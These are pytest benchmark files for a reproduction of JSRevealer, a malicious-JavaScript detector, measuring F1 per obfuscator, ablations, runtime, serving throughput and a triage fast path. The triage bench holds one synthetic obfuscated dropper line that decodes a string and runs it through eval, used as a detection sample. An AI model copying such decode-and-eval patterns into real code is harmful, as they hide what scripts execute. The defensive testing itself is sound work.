"""Table VI — F1-measure of the five detectors per obfuscator.

Prints the F1 grid and checks the comprehensive-performance shape the
paper reports in its Table VI discussion.
"""

import pytest

from repro.bench import DETECTOR_ORDER, format_metric_table


@pytest.mark.table
def test_table6_f1_comparison(comparison, benchmark):
    benchmark.pedantic(lambda: None, rounds=1, iterations=1)

    print("\nTable VI — F1 (%) per detector per obfuscator "
          f"(averaged over {comparison.repetitions} repetitions)")
    print(format_metric_table(comparison, "f1"))
    print("\npaper rows (F1): cujo 80.8/69.0/49.8/67.2/66.7, zozzle 97.9/65.4/72.0/44.8/67.6,")
    print("jast 98/84.9/32.2/58.2/89.1, jstap 99.1/62.6/18.0/68.1/98.8, jsrevealer 99.4/88.4/81.5/75.4/94.2")

    # Clean F1 high for everyone, as in the paper's baseline column.
    for detector in DETECTOR_ORDER:
        assert comparison.metric(detector, "baseline", "f1") >= 75.0

    averages = {d: comparison.average_over_obfuscators(d, "f1") for d in DETECTOR_ORDER}
    print("\naverage F1 over obfuscators:", {k: round(v, 1) for k, v in averages.items()})
    print("paper averages: cujo 63.2, zozzle 62.5, jast 66.1, jstap 61.9, jsrevealer 84.8")

    # JSRevealer remains usable under every single obfuscator — the paper's
    # "no catastrophic failure" property (its worst cell is 75.4; baselines
    # bottom out at 18-45).
    worst_jsr = min(
        comparison.metric("jsrevealer", s, "f1") for s in ("javascript-obfuscator", "jfogs", "jsobfu", "jshaman")
    )
    assert worst_jsr >= 30.0
    assert averages["jsrevealer"] >= 60.0
