"""Ablation benches for the design choices DESIGN.md calls out.

Beyond the paper's own enhanced-vs-regular AST ablation (Table IV), these
benches probe: attention-weight features vs binary occurrence, outlier
removal on/off, Bisecting K-Means vs plain K-Means, and path length/width
limit sensitivity.
"""

import numpy as np
import pytest

from repro.bench import bench_params, default_jsrevealer_config
from repro.core import JSRevealer
from repro.datasets import experiment_split
from repro.ml import KMeans, f1_score
from repro.obfuscation import ALL_OBFUSCATORS
from repro.paths import PathExtractor


@pytest.fixture(scope="module")
def ablation_split():
    params = bench_params()
    return experiment_split(
        seed=0,
        pretrain_per_class=params["pretrain"],
        train_per_class=params["train"],
        test_per_class=max(params["test"] // 2, 10),
        realistic=True,
    )


def _avg_obfuscated_f1(detector, split, seed=77):
    f1s = []
    for cls in ALL_OBFUSCATORS.values():
        corpus = split.test.obfuscated(cls(seed=seed))
        predictions = detector.predict(corpus.sources)
        f1s.append(100.0 * f1_score(corpus.label_array, predictions))
    return float(np.mean(f1s))


def _trained(split, **overrides):
    detector = JSRevealer(default_jsrevealer_config(**overrides))
    detector.pretrain(split.pretrain.sources, split.pretrain.labels)
    detector.fit(split.train.sources, split.train.labels)
    return detector


@pytest.mark.table
def test_ablation_weights_vs_binary(ablation_split, benchmark):
    """Sec. III-D argues for attention weights over binary occurrence."""
    weighted = _trained(ablation_split)

    binary = _trained(ablation_split)
    # Replace the aggregation with binary cluster occurrence: every path's
    # weight becomes uniform, so feature values count membership only.
    original = binary.embed_script

    def binary_embed(contexts):
        vectors, weights = original(contexts)
        if len(weights):
            weights = np.full_like(weights, 1.0 / len(weights))
        return vectors, weights

    binary.embed_script = binary_embed
    binary.fit(ablation_split.train.sources, ablation_split.train.labels)

    f1_weighted = _avg_obfuscated_f1(weighted, ablation_split)
    f1_binary = _avg_obfuscated_f1(binary, ablation_split)
    benchmark.pedantic(lambda: None, rounds=1, iterations=1)

    print(f"\nAblation: attention-weight features avgF1={f1_weighted:.1f} "
          f"vs binary occurrence avgF1={f1_binary:.1f}")
    assert f1_weighted >= 50.0  # weighted variant stays usable


@pytest.mark.table
def test_ablation_outlier_removal(ablation_split, benchmark):
    """FastABOD outlier removal before clustering (Sec. III-D)."""
    with_removal = _trained(ablation_split, contamination=0.1)
    without = _trained(ablation_split, contamination=0.001)  # effectively off

    f1_with = _avg_obfuscated_f1(with_removal, ablation_split)
    f1_without = _avg_obfuscated_f1(without, ablation_split)
    benchmark.pedantic(lambda: None, rounds=1, iterations=1)

    print(f"\nAblation: outlier removal on avgF1={f1_with:.1f} vs off avgF1={f1_without:.1f}")
    assert f1_with >= 45.0


@pytest.mark.table
def test_ablation_bisecting_vs_plain_kmeans(ablation_split, benchmark):
    """The paper picks Bisecting K-Means for initialization stability."""
    detector = _trained(ablation_split)
    pooled = []
    for source in ablation_split.train.sources[:40]:
        vectors, _ = detector.embed_script(detector.extract_paths(source))
        if len(vectors):
            pooled.append(vectors)
    X = np.vstack(pooled)
    if len(X) > 2000:
        X = X[np.random.default_rng(0).choice(len(X), 2000, replace=False)]

    from repro.ml import BisectingKMeans

    # Stability: inertia spread across seeds should be smaller for the
    # bisecting variant (its splits are locally re-initialized 2-means).
    plain = [KMeans(n_clusters=7, n_init=1, random_state=s).fit(X).inertia_ for s in range(5)]
    bisect = [BisectingKMeans(n_clusters=7, n_init=1, random_state=s).fit(X).inertia_ for s in range(5)]
    benchmark.pedantic(lambda: None, rounds=1, iterations=1)

    spread_plain = (max(plain) - min(plain)) / max(np.mean(plain), 1e-9)
    spread_bisect = (max(bisect) - min(bisect)) / max(np.mean(bisect), 1e-9)
    print(f"\nAblation: K-Means inertia spread {100 * spread_plain:.2f}% "
          f"vs Bisecting {100 * spread_bisect:.2f}% across 5 seeds")
    assert spread_bisect <= spread_plain + 0.05


@pytest.mark.table
def test_ablation_path_limits(benchmark):
    """Sensitivity of path extraction to the (12, 4) length/width limits."""
    from repro.datasets import build_corpus

    corpus = build_corpus(10, 10, seed=3)
    counts = {}
    for limits in ((6, 2), (12, 4), (20, 8)):
        extractor = PathExtractor(max_length=limits[0], max_width=limits[1])
        counts[limits] = sum(len(extractor.extract_from_source(s)) for s in corpus.sources)
    benchmark.pedantic(lambda: None, rounds=1, iterations=1)

    print("\nAblation: total paths extracted per (max_length, max_width)")
    for limits, count in counts.items():
        print(f"  {limits}: {count}")
    # Monotone growth with looser limits; the paper's (12, 4) sits between.
    assert counts[(6, 2)] < counts[(12, 4)] < counts[(20, 8)]
