"""Table III — average F1 on obfuscated data for K values around the elbow.

The paper searches cluster counts near the elbow values and settles on
K_benign=11, K_malicious=10 by average F1 over the four obfuscated test
sets.  This bench sweeps a (smaller) grid around our elbow values and
prints the grid.
"""

import numpy as np
import pytest

from repro.bench import bench_params, default_jsrevealer_config
from repro.core import JSRevealer
from repro.datasets import experiment_split
from repro.ml import f1_score
from repro.obfuscation import ALL_OBFUSCATORS

K_BENIGN_GRID = (5, 7, 9)
K_MALICIOUS_GRID = (4, 6, 8)


@pytest.mark.table
def test_table3_k_value_grid(benchmark):
    params = bench_params()
    split = experiment_split(
        seed=0,
        pretrain_per_class=params["pretrain"],
        train_per_class=params["train"],
        test_per_class=max(params["test"] // 2, 10),
        realistic=True,
    )
    obfuscated = {
        name: split.test.obfuscated(cls(seed=99)) for name, cls in ALL_OBFUSCATORS.items()
    }

    # One shared embedder keeps the sweep affordable; only the clustering
    # and classifier stages depend on K.
    base = JSRevealer(default_jsrevealer_config())
    base.pretrain(split.pretrain.sources, split.pretrain.labels)

    grid = np.zeros((len(K_BENIGN_GRID), len(K_MALICIOUS_GRID)))
    for i, kb in enumerate(K_BENIGN_GRID):
        for j, km in enumerate(K_MALICIOUS_GRID):
            detector = JSRevealer(default_jsrevealer_config(k_benign=kb, k_malicious=km))
            detector.embedder = base.embedder  # reuse the pre-trained model
            detector.fit(split.train.sources, split.train.labels)
            f1s = []
            for corpus in obfuscated.values():
                predictions = detector.predict(corpus.sources)
                f1s.append(100.0 * f1_score(corpus.label_array, predictions))
            grid[i, j] = float(np.mean(f1s))

    benchmark.pedantic(lambda: None, rounds=1, iterations=1)

    print("\nTable III — average F1 (%) on obfuscated data, K grid")
    corner = "Kb / Km"
    header = f"{corner:>8s}" + "".join(f"{km:>8d}" for km in K_MALICIOUS_GRID)
    print(header)
    for i, kb in enumerate(K_BENIGN_GRID):
        print(f"{kb:>8d}" + "".join(f"{grid[i, j]:>8.1f}" for j in range(len(K_MALICIOUS_GRID))))
    best = np.unravel_index(int(np.argmax(grid)), grid.shape)
    print(f"best: K_benign={K_BENIGN_GRID[best[0]]}, K_malicious={K_MALICIOUS_GRID[best[1]]} "
          f"({grid[best]:.1f}%)")
    print("paper: best at K_benign=11, K_malicious=10 (84.8%)")

    # Shape: the sweep must produce usable detectors everywhere on the grid.
    assert grid.min() > 40.0
    assert grid.max() <= 100.0
