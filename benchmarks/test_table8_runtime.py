"""Table VIII — per-module runtime per file.

The paper times each pipeline stage per file (path extraction dominating,
classification sub-millisecond) and concludes per-file detection cost is
compatible with large-scale scanning.  This bench reproduces the stage
accounting on our detector and checks the ordering shape.
"""

import numpy as np
import pytest

from repro.bench import bench_params, default_jsrevealer_config
from repro.core import JSRevealer
from repro.datasets import experiment_split


@pytest.mark.table
def test_table8_runtime_per_stage(benchmark):
    params = bench_params()
    split = experiment_split(
        seed=0,
        pretrain_per_class=params["pretrain"],
        train_per_class=params["train"],
        test_per_class=params["test"],
        realistic=True,
    )
    detector = JSRevealer(default_jsrevealer_config())
    detector.pretrain(split.pretrain.sources, split.pretrain.labels)
    detector.fit(split.train.sources, split.train.labels)

    # Detection-time timing over the test set.
    benchmark.pedantic(detector.predict, args=(split.test.sources,), rounds=1, iterations=1)

    stage_ms = detector.mean_stage_ms()
    print("\nTable VIII — average time per invocation (ms)")
    paper = {
        "path_extraction": "569.8 (enhanced AST 221.3 + traversal 348.5)",
        "pretraining": "22.5 per file",
        "embedding": "11.7",
        "feature_extraction": "420.7 (outlier 396.5 + clustering 24.2)",
        "classifier_training": "0.235",
        "classifying": "0.143",
    }
    for stage in (
        "path_extraction",
        "pretraining",
        "embedding",
        "feature_extraction",
        "classifier_training",
        "feature_transform",
        "classifying",
    ):
        measured = stage_ms.get(stage, float("nan"))
        note = paper.get(stage, "-")
        print(f"{stage:22s} {measured:>10.2f}   paper: {note}")

    sizes = [len(s.encode()) for s in split.test.sources]
    print(f"\nmean script size: {np.mean(sizes) / 1024:.1f} KiB (paper corpus: 62 KB avg)")

    # Shape checks mirroring the paper's conclusions:
    # classification is orders of magnitude cheaper than path extraction,
    assert stage_ms["classifying"] < stage_ms["path_extraction"]
    # feature extraction (fit-time) is the heavyweight one-off stage,
    assert stage_ms["feature_extraction"] > stage_ms["classifying"]
    # and per-file detection cost stays in an interactive range.
    per_file_detect = stage_ms["path_extraction"] + stage_ms["embedding"] + stage_ms["classifying"]
    print(f"per-file detection cost ≈ {per_file_detect:.1f} ms (paper: 582 ms on 62 KB files)")
    assert per_file_detect < 5000.0

    # Batch-engine comparison: the same per-stage accounting for the
    # sequential path and the worker-pool path of the BatchScanner.
    from repro.bench import format_timing_table, scan_timing_comparison

    slice_sources = split.test.sources[: min(10, len(split.test.sources))]
    reports = scan_timing_comparison(detector, slice_sources, n_workers=2)
    print("\n" + format_timing_table(reports, title="Batch engine — per-stage totals (ms)"))
    seq, par = reports["sequential"], reports["parallel"]
    assert np.array_equal(seq.label_array, par.label_array)
