"""Serving-mode throughput — micro-batching vs per-request dispatch.

Not a paper table: this bench covers the ROADMAP's production-service
direction.  It boots the `repro.serve` daemon on an ephemeral port in two
configurations — ``max_batch=1`` (every request dispatched alone) and
``max_batch=8`` (micro-batching) — drives both with the stdlib load
generator, and compares against sequential in-process one-shot scans.

The shape assertion: under concurrent load, micro-batching must not lose
to per-request dispatch (it amortizes the executor hop and the shared
transform/classify stages across the batch), and both server modes must
return exactly the verdicts the in-process scanner produces.
"""

import pytest

from repro.bench import bench_params, default_jsrevealer_config, format_load_table, serve_throughput_comparison
from repro.core import JSRevealer
from repro.datasets import experiment_split
from repro.serve import BackgroundServer, ServeConfig, run_load


@pytest.mark.table
def test_serve_throughput(benchmark):
    params = bench_params()
    split = experiment_split(
        seed=0,
        pretrain_per_class=params["pretrain"],
        train_per_class=params["train"],
        test_per_class=min(params["test"], 20),
        realistic=True,
    )
    detector = JSRevealer(default_jsrevealer_config())
    detector.pretrain(split.pretrain.sources, split.pretrain.labels)
    detector.fit(split.train.sources, split.train.labels)

    sources = split.test.sources[:16]
    reports = benchmark.pedantic(
        serve_throughput_comparison,
        args=(detector, sources),
        kwargs={"concurrency": 8, "repeats": 2, "max_batch": 8},
        rounds=1,
        iterations=1,
    )

    print("\n" + format_load_table(reports, title="Serving modes — throughput / latency"))

    oneshot, unbatched, batched = (
        reports["oneshot"], reports["serve_unbatched"], reports["serve_batched"],
    )
    # Equal correctness: every served verdict matches the one-shot scan.
    expected = {r.name: (r.label, r.probability) for r in oneshot.results}
    for mode_report in (unbatched, batched):
        assert mode_report.errors == 0
        for r in mode_report.results:
            assert (r.label, r.probability) == expected[r.name], r.name

    # Shape: micro-batching beats (or at minimum matches) per-request
    # dispatch under concurrent load; the 0.9 factor absorbs timer noise
    # on loaded CI machines without surrendering the ordering claim.
    assert batched.throughput_rps >= 0.9 * unbatched.throughput_rps
    # And a resident daemon at c=8 beats sequential one-shot scanning.
    assert batched.throughput_rps > oneshot.throughput_rps


@pytest.mark.table
def test_tracing_overhead(benchmark):
    """Tracing at the default sample rate is within 5% of untraced throughput.

    Boots two daemons side by side — head sampling off, and at the
    default 10% rate — and alternates measured passes between them after
    a cache-warming pass, so the guard compares steady-state dispatch
    cost in paired rounds rather than first-touch feature extraction or
    whatever the CI machine happened to be doing during one boot.
    Verdicts must match field-for-field between the modes (the stronger
    byte-identity claim for untraced payloads lives in
    tests/pipeline/test_trace_scan.py).
    """
    params = bench_params()
    split = experiment_split(
        seed=0,
        pretrain_per_class=params["pretrain"],
        train_per_class=params["train"],
        test_per_class=min(params["test"], 20),
        realistic=True,
    )
    detector = JSRevealer(default_jsrevealer_config())
    detector.pretrain(split.pretrain.sources, split.pretrain.labels)
    detector.fit(split.train.sources, split.train.labels)

    scripts = [(f"<trace:{i}>", source) for i, source in enumerate(split.test.sources[:16])]
    default_rate = ServeConfig.__dataclass_fields__["trace_sample_rate"].default

    def compare():
        # Both daemons stay up for the whole comparison and the measured
        # passes alternate between them, so background machine drift hits
        # both modes equally instead of whichever booted second.
        off = ServeConfig(port=0, max_batch=8, max_wait_ms=25.0, trace_sample_rate=0.0)
        on = ServeConfig(port=0, max_batch=8, max_wait_ms=25.0, trace_sample_rate=default_rate)
        with BackgroundServer(detector, off) as a, BackgroundServer(detector, on) as b:
            best = {"untraced": None, "traced": None}
            ratios = []
            for background, mode in ((a, "untraced"), (b, "traced")):
                run_load(background.host, background.port, scripts, concurrency=8)  # warm the cache
            for _ in range(5):
                round_rps = {}
                for background, mode in ((a, "untraced"), (b, "traced")):
                    report = run_load(background.host, background.port, scripts,
                                      concurrency=8, repeats=25)
                    assert report.errors == 0, report.summary()
                    round_rps[mode] = report.throughput_rps
                    if best[mode] is None or report.throughput_rps > best[mode].throughput_rps:
                        best[mode] = report
                ratios.append(round_rps["traced"] / round_rps["untraced"])
        return best["untraced"], best["traced"], ratios

    untraced, traced, ratios = benchmark.pedantic(compare, rounds=1, iterations=1)

    print("\n" + format_load_table(
        {"untraced": untraced, "traced@default": traced},
        title="Tracing overhead — default sample rate vs off",
    ))

    expected = {r.name: (r.label, r.probability, r.verdict) for r in untraced.results}
    for result in traced.results:
        assert (result.label, result.probability, result.verdict) == expected[result.name], result.name

    # Paired comparison: each round measures both daemons back to back, so
    # machine drift cancels within a round.  Real tracing overhead would
    # depress *every* round's ratio; noise only depresses some.
    assert max(ratios) >= 0.95, (
        f"tracing overhead exceeds 5% in every paired round: "
        f"ratios={[f'{r:.3f}' for r in ratios]}"
    )
