"""Serving-mode throughput — micro-batching vs per-request dispatch.

Not a paper table: this bench covers the ROADMAP's production-service
direction.  It boots the `repro.serve` daemon on an ephemeral port in two
configurations — ``max_batch=1`` (every request dispatched alone) and
``max_batch=8`` (micro-batching) — drives both with the stdlib load
generator, and compares against sequential in-process one-shot scans.

The shape assertion: under concurrent load, micro-batching must not lose
to per-request dispatch (it amortizes the executor hop and the shared
transform/classify stages across the batch), and both server modes must
return exactly the verdicts the in-process scanner produces.
"""

import pytest

from repro.bench import bench_params, default_jsrevealer_config, format_load_table, serve_throughput_comparison
from repro.core import JSRevealer
from repro.datasets import experiment_split


@pytest.mark.table
def test_serve_throughput(benchmark):
    params = bench_params()
    split = experiment_split(
        seed=0,
        pretrain_per_class=params["pretrain"],
        train_per_class=params["train"],
        test_per_class=min(params["test"], 20),
        realistic=True,
    )
    detector = JSRevealer(default_jsrevealer_config())
    detector.pretrain(split.pretrain.sources, split.pretrain.labels)
    detector.fit(split.train.sources, split.train.labels)

    sources = split.test.sources[:16]
    reports = benchmark.pedantic(
        serve_throughput_comparison,
        args=(detector, sources),
        kwargs={"concurrency": 8, "repeats": 2, "max_batch": 8},
        rounds=1,
        iterations=1,
    )

    print("\n" + format_load_table(reports, title="Serving modes — throughput / latency"))

    oneshot, unbatched, batched = (
        reports["oneshot"], reports["serve_unbatched"], reports["serve_batched"],
    )
    # Equal correctness: every served verdict matches the one-shot scan.
    expected = {r.name: (r.label, r.probability) for r in oneshot.results}
    for mode_report in (unbatched, batched):
        assert mode_report.errors == 0
        for r in mode_report.results:
            assert (r.label, r.probability) == expected[r.name], r.name

    # Shape: micro-batching beats (or at minimum matches) per-request
    # dispatch under concurrent load; the 0.9 factor absorbs timer noise
    # on loaded CI machines without surrendering the ordering claim.
    assert batched.throughput_rps >= 0.9 * unbatched.throughput_rps
    # And a resident daemon at c=8 beats sequential one-shot scanning.
    assert batched.throughput_rps > oneshot.throughput_rps
