"""Serving-mode throughput — micro-batching vs per-request dispatch.

Not a paper table: this bench covers the ROADMAP's production-service
direction.  It boots the `repro.serve` daemon on an ephemeral port in two
configurations — ``max_batch=1`` (every request dispatched alone) and
``max_batch=8`` (micro-batching) — drives both with the stdlib load
generator, and compares against sequential in-process one-shot scans.

The shape assertion: under concurrent load, micro-batching must not lose
to per-request dispatch (it amortizes the executor hop and the shared
transform/classify stages across the batch), and both server modes must
return exactly the verdicts the in-process scanner produces.
"""

import json
import os
import pathlib
import signal
import threading
import time

import pytest

from repro.bench import (
    bench_params,
    cluster_scaling_comparison,
    default_jsrevealer_config,
    format_load_table,
    serve_throughput_comparison,
)
from repro.client import ScanClient
from repro.core import JSRevealer, save_detector
from repro.datasets import experiment_split
from repro.serve import BackgroundCluster, BackgroundServer, ClusterConfig, ServeConfig, run_load


@pytest.mark.table
def test_serve_throughput(benchmark):
    params = bench_params()
    split = experiment_split(
        seed=0,
        pretrain_per_class=params["pretrain"],
        train_per_class=params["train"],
        test_per_class=min(params["test"], 20),
        realistic=True,
    )
    detector = JSRevealer(default_jsrevealer_config())
    detector.pretrain(split.pretrain.sources, split.pretrain.labels)
    detector.fit(split.train.sources, split.train.labels)

    sources = split.test.sources[:16]
    reports = benchmark.pedantic(
        serve_throughput_comparison,
        args=(detector, sources),
        kwargs={"concurrency": 8, "repeats": 2, "max_batch": 8},
        rounds=1,
        iterations=1,
    )

    print("\n" + format_load_table(reports, title="Serving modes — throughput / latency"))

    oneshot, unbatched, batched = (
        reports["oneshot"], reports["serve_unbatched"], reports["serve_batched"],
    )
    # Equal correctness: every served verdict matches the one-shot scan.
    expected = {r.name: (r.label, r.probability) for r in oneshot.results}
    for mode_report in (unbatched, batched):
        assert mode_report.errors == 0
        for r in mode_report.results:
            assert (r.label, r.probability) == expected[r.name], r.name

    # Shape: micro-batching beats (or at minimum matches) per-request
    # dispatch under concurrent load; the 0.9 factor absorbs timer noise
    # on loaded CI machines without surrendering the ordering claim.
    assert batched.throughput_rps >= 0.9 * unbatched.throughput_rps
    # And a resident daemon at c=8 beats sequential one-shot scanning.
    assert batched.throughput_rps > oneshot.throughput_rps


@pytest.mark.table
def test_tracing_overhead(benchmark):
    """Tracing at the default sample rate is within 5% of untraced throughput.

    Boots two daemons side by side — head sampling off, and at the
    default 10% rate — and alternates measured passes between them after
    a cache-warming pass, so the guard compares steady-state dispatch
    cost in paired rounds rather than first-touch feature extraction or
    whatever the CI machine happened to be doing during one boot.
    Verdicts must match field-for-field between the modes (the stronger
    byte-identity claim for untraced payloads lives in
    tests/pipeline/test_trace_scan.py).
    """
    params = bench_params()
    split = experiment_split(
        seed=0,
        pretrain_per_class=params["pretrain"],
        train_per_class=params["train"],
        test_per_class=min(params["test"], 20),
        realistic=True,
    )
    detector = JSRevealer(default_jsrevealer_config())
    detector.pretrain(split.pretrain.sources, split.pretrain.labels)
    detector.fit(split.train.sources, split.train.labels)

    scripts = [(f"<trace:{i}>", source) for i, source in enumerate(split.test.sources[:16])]
    default_rate = ServeConfig.__dataclass_fields__["trace_sample_rate"].default

    def compare():
        # Both daemons stay up for the whole comparison and the measured
        # passes alternate between them, so background machine drift hits
        # both modes equally instead of whichever booted second.
        off = ServeConfig(port=0, max_batch=8, max_wait_ms=25.0, trace_sample_rate=0.0)
        on = ServeConfig(port=0, max_batch=8, max_wait_ms=25.0, trace_sample_rate=default_rate)
        with BackgroundServer(detector, off) as a, BackgroundServer(detector, on) as b:
            best = {"untraced": None, "traced": None}
            ratios = []
            for background, mode in ((a, "untraced"), (b, "traced")):
                run_load(background.host, background.port, scripts, concurrency=8)  # warm the cache
            for _ in range(5):
                round_rps = {}
                for background, mode in ((a, "untraced"), (b, "traced")):
                    report = run_load(background.host, background.port, scripts,
                                      concurrency=8, repeats=25)
                    assert report.errors == 0, report.summary()
                    round_rps[mode] = report.throughput_rps
                    if best[mode] is None or report.throughput_rps > best[mode].throughput_rps:
                        best[mode] = report
                ratios.append(round_rps["traced"] / round_rps["untraced"])
        return best["untraced"], best["traced"], ratios

    untraced, traced, ratios = benchmark.pedantic(compare, rounds=1, iterations=1)

    print("\n" + format_load_table(
        {"untraced": untraced, "traced@default": traced},
        title="Tracing overhead — default sample rate vs off",
    ))

    expected = {r.name: (r.label, r.probability, r.verdict) for r in untraced.results}
    for result in traced.results:
        assert (result.label, result.probability, result.verdict) == expected[result.name], result.name

    # Paired comparison: each round measures both daemons back to back, so
    # machine drift cancels within a round.  Real tracing overhead would
    # depress *every* round's ratio; noise only depresses some.
    assert max(ratios) >= 0.95, (
        f"tracing overhead exceeds 5% in every paired round: "
        f"ratios={[f'{r:.3f}' for r in ratios]}"
    )


# --------------------------------------------------------------- cluster tier


REPO_ROOT = pathlib.Path(__file__).resolve().parent.parent


@pytest.fixture(scope="module")
def cluster_split():
    params = bench_params()
    return experiment_split(
        seed=0,
        pretrain_per_class=params["pretrain"],
        train_per_class=params["train"],
        test_per_class=min(params["test"], 20),
        realistic=True,
    )


@pytest.fixture(scope="module")
def saved_model_dir(cluster_split, tmp_path_factory):
    """A trained detector saved to disk — shards boot from this."""
    detector = JSRevealer(default_jsrevealer_config())
    detector.pretrain(cluster_split.pretrain.sources, cluster_split.pretrain.labels)
    detector.fit(cluster_split.train.sources, cluster_split.train.labels)
    model_dir = tmp_path_factory.mktemp("bench-model") / "model"
    save_detector(detector, model_dir)
    return str(model_dir)


@pytest.mark.table
def test_cluster_scaling(benchmark, saved_model_dir, cluster_split):
    """Fleet throughput at 1/2/4 shards, recorded in BENCH_cluster_scaling.json.

    Shards are separate processes, so past one shard the fleet escapes
    the GIL — on a multi-core machine 2 shards must clear 1.6x and
    4 shards 2.5x of single-shard req/s through the router.  On boxes
    with fewer than four usable cores (this container pins one) the
    ratio asserts are vacuous and only recorded; correctness — zero
    errors and verdict identity across fleet sizes — is asserted
    everywhere.
    """
    sources = cluster_split.test.sources[:16]
    reports = benchmark.pedantic(
        cluster_scaling_comparison,
        args=(saved_model_dir, sources),
        kwargs={"shard_counts": (1, 2, 4), "concurrency": 8, "repeats": 2},
        rounds=1,
        iterations=1,
    )

    print("\n" + format_load_table(reports, title="Cluster scaling — shards vs throughput"))

    baseline = reports["shards_1"]
    assert baseline.errors == 0, baseline.summary()
    expected = {r.name: (r.label, r.probability) for r in baseline.results}
    ratios = {}
    for mode, report in reports.items():
        assert report.errors == 0, report.summary()
        for result in report.results:
            assert (result.label, result.probability) == expected[result.name], result.name
        ratios[mode] = report.throughput_rps / baseline.throughput_rps

    cores = len(os.sched_getaffinity(0))
    record = {
        "bench": "cluster_scaling",
        "source": "benchmarks/test_serve_bench.py::test_cluster_scaling",
        "cores": cores,
        "params": {
            **bench_params(),
            "n_sources": len(sources),
            "concurrency": 8,
            "repeats": 2,
        },
        "throughput_rps": {m: round(r.throughput_rps, 2) for m, r in reports.items()},
        "latency_p50_ms": {m: round(r.latency_ms(0.50), 2) for m, r in reports.items()},
        "latency_p95_ms": {m: round(r.latency_ms(0.95), 2) for m, r in reports.items()},
        "errors": {m: r.errors for m, r in reports.items()},
        "ratios_vs_1_shard": {m: round(r, 3) for m, r in ratios.items()},
        "scaling_asserted": cores >= 4,
    }
    (REPO_ROOT / "BENCH_cluster_scaling.json").write_text(json.dumps(record, indent=2) + "\n")

    if cores >= 4:
        assert ratios["shards_2"] >= 1.6, f"2-shard ratio {ratios['shards_2']:.2f} < 1.6"
        assert ratios["shards_4"] >= 2.5, f"4-shard ratio {ratios['shards_4']:.2f} < 2.5"


@pytest.mark.table
def test_shard_kill_under_load_zero_failed_requests(benchmark, saved_model_dir, cluster_split):
    """SIGKILL a shard mid-load: with client retries on, no request fails.

    The router classifies the dead shard's transport faults as retryable,
    routes the orphaned keys onto the survivor, and browns out with
    Retry-After only if everything is down — so a retrying client sees
    100% success across the kill window while the supervisor boots a
    replacement.
    """
    sources = cluster_split.test.sources[:16]
    scripts = [(f"<kill:{i}>", source) for i, source in enumerate(sources)]
    config = ClusterConfig(model_dir=saved_model_dir, n_shards=2, port=0)

    def run():
        with BackgroundCluster(config) as cluster:
            client = ScanClient(cluster.url, retries=2)
            victim = client.healthz()["shards"][0]

            def kill_soon():
                time.sleep(0.3)  # let the load settle in first
                os.kill(victim["pid"], signal.SIGKILL)

            killer = threading.Thread(target=kill_soon, daemon=True)
            killer.start()
            report = run_load(
                cluster.host, cluster.port, scripts, concurrency=8, repeats=3, retries=2
            )
            killer.join()
            health = client.healthz()
        return report, health, victim

    report, health, victim = benchmark.pedantic(run, rounds=1, iterations=1)

    print("\nshard kill under load: " + report.summary())

    assert report.errors == 0, report.summary()
    assert report.requests == len(scripts) * 3
    # The kill really happened while the fleet was serving: the victim's
    # slot shows a restart (replacement may still be booting — that's
    # fine, the zero-error claim above is the contract under test).
    victim_after = {s["shard"]: s for s in health["shards"]}[victim["shard"]]
    assert victim_after["restarts"] >= 1 or victim_after["pid"] != victim["pid"]
