"""Static-analysis triage — fast-path cost vs the full scan pipeline.

Not a paper table: this bench covers the ROADMAP's triage direction.  It
times three modes over the same mixed batch:

* ``analyze``  — the rule catalog alone (no model, the ``/analyze`` path),
* ``full``     — the embed/classify pipeline with no triage,
* ``triage``   — ``BatchScanner(triage=...)``: analysis first, decisive
  scripts short-circuited before extraction/embedding.

Shape assertions: bare analysis is much cheaper per script than the full
pipeline; triage verdicts match the full scan on every non-triaged file;
and on a batch where decisive rules settle most scripts, the triage scan
skips that embedding work (measured via per-file path counts).
"""

import time

import pytest

from repro.analysis import Analyzer
from repro.bench import bench_params, default_jsrevealer_config
from repro.core import JSRevealer
from repro.datasets import experiment_split
from repro.pipeline import BatchScanner

DECISIVE_SOURCE = 'var s = unescape("%65%76%69%6c"); var t = s + "()"; eval(t);'


@pytest.mark.table
def test_triage_fast_path(benchmark):
    params = bench_params()
    split = experiment_split(
        seed=0,
        pretrain_per_class=params["pretrain"],
        train_per_class=params["train"],
        test_per_class=min(params["test"], 24),
        realistic=True,
    )
    detector = JSRevealer(default_jsrevealer_config())
    detector.pretrain(split.pretrain.sources, split.pretrain.labels)
    detector.fit(split.train.sources, split.train.labels)

    # Mixed batch: real test scripts plus decisive obfuscation droppers —
    # the workload triage exists for.
    organic = split.test.sources[:16]
    sources = organic + [DECISIVE_SOURCE] * len(organic)

    analyzer = Analyzer()

    def run_all():
        started = time.perf_counter()
        analysis_reports = analyzer.analyze_batch(sources)
        analyze_s = time.perf_counter() - started

        started = time.perf_counter()
        full = BatchScanner(detector).scan(sources)
        full_s = time.perf_counter() - started

        started = time.perf_counter()
        triaged = BatchScanner(detector, triage=Analyzer()).scan(sources)
        triage_s = time.perf_counter() - started
        return analysis_reports, analyze_s, full, full_s, triaged, triage_s

    analysis_reports, analyze_s, full, full_s, triaged, triage_s = benchmark.pedantic(
        run_all, rounds=1, iterations=1
    )

    n = len(sources)
    print("\nStatic-analysis triage — per-script cost (ms)")
    print(f"  {'mode':<18s} {'total_ms':>9s} {'ms/script':>10s}")
    for mode, seconds in (("analyze (rules)", analyze_s), ("full scan", full_s), ("triage scan", triage_s)):
        print(f"  {mode:<18s} {1000 * seconds:>9.1f} {1000 * seconds / n:>10.2f}")
    print(
        f"  triage hits: {triaged.triage_hits}/{n}; "
        f"analysis stage {triaged.stage_ms.get('analysis', 0.0):.1f}ms"
    )

    # Bare analysis must be far cheaper than the embed/classify pipeline.
    assert analyze_s < full_s / 2

    # Every decisive dropper was settled without embedding…
    assert triaged.triage_hits == len(organic)
    for result in triaged.results[len(organic):]:
        assert result.triaged and result.malicious and result.path_count == 0

    # …and every organic script got exactly the full pipeline's verdict.
    for full_result, triage_result in zip(full.results[:len(organic)], triaged.results[:len(organic)]):
        assert not triage_result.triaged
        assert triage_result.label == full_result.label
        assert triage_result.probability == pytest.approx(full_result.probability)

    # The analyzer's own accounting is coherent: every script produced a
    # parseable report and decisive scripts carry explainable evidence.
    assert len(analysis_reports) == n
    decisive = [r for r in analysis_reports if r.decisive]
    assert len(decisive) == len(organic)
    assert all(any(f.rule_id == "decode-chain" for f in r.findings) for r in decisive)
