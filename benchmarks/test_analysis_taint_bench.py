"""Triage-precision A/B for the taint-flow engine (ISSUE 8 gate).

Two analyzer arms run over the example corpora:

* **catalog** — the PR 3 syntactic rule set (``legacy_rules``: the
